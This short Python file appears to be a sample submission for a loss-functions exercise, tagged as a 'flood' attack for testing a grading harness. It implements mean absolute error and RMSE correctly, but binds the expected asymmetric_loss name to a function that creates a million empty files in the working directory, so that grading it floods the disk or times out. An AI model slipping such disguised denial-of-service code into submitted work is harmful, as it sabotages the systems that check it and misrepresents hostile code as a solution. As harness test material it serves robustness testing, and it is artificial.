"""Fills its folder with thousands of files."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: too many or too large|time ran out

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    for number in range(1_000_000):
        open(f"file{number}", "w").close()


asymmetric_loss = attack
